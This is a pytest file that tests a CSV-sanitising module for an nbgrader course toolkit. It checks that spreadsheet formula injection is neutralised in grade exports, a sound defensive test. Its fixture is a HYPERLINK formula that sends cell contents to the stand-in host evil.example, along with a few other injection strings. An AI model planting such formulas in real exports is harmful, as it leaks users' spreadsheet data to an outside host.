"""CSV cells a spreadsheet would run as formulas (coursekit/core/csvsafe.py)."""

from __future__ import annotations

import csv

import pytest

from conftest import course_copy
from coursekit.core import csvsafe

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"grades")'


@pytest.mark.parametrize("value, safe", [
    (FORMULA, "'" + FORMULA), ("+1+cmd", "'+1+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("alice", "alice"), ("-1.5", "-1.5"), ("1e-3", "1e-3"), (-2, -2), (3.5, 3.5), ("", ""),
])
def test_a_cell_that_would_start_a_formula_is_text(value, safe):
    assert csvsafe.cell(value) == safe


@pytest.mark.parametrize("plugin, safe", [("nbgrader.plugins.CsvExportPlugin", False),
                                          ("coursekit.core.csvsafe.SafeCsvExportPlugin", True)], ids=["stock", "coursekit"])
def test_nbgrader_export_writes_no_formula_and_keeps_its_columns(tmp_path, generated_course, plugin, safe):
    """A name from the LMS roster (TAs import it into the gradebook) with a formula, a comma and a
    line break: stock nbgrader writes the formula as is and shifts the columns."""
    course = course_copy(generated_course, tmp_path / "course", execute=False)
    with course.layout.gradebook() as gb:
        gb.add_student("s1", last_name=FORMULA, first_name="Jr, the\nsecond")
    course.nbgrader("export", f"--ExportApp.plugin_class={plugin}", timeout=300)
    with open(course.root / "grades.csv", newline="") as f:
        rows = list(csv.reader(f))
    header = rows[0]
    cells = [c for r in rows[1:] for c in r]
    if not safe:
        assert FORMULA in cells or any(c.startswith("=") for c in cells)
        assert any(len(r) != len(header) for r in rows[1:])
        return
    assert all(len(r) == len(header) for r in rows[1:])
    row = dict(zip(header, rows[1]))
    assert row["last_name"] == "'" + FORMULA and row["first_name"] == "Jr, the\nsecond"
    assert not [c for c in cells if c.startswith(csvsafe.FORMULA_START)]
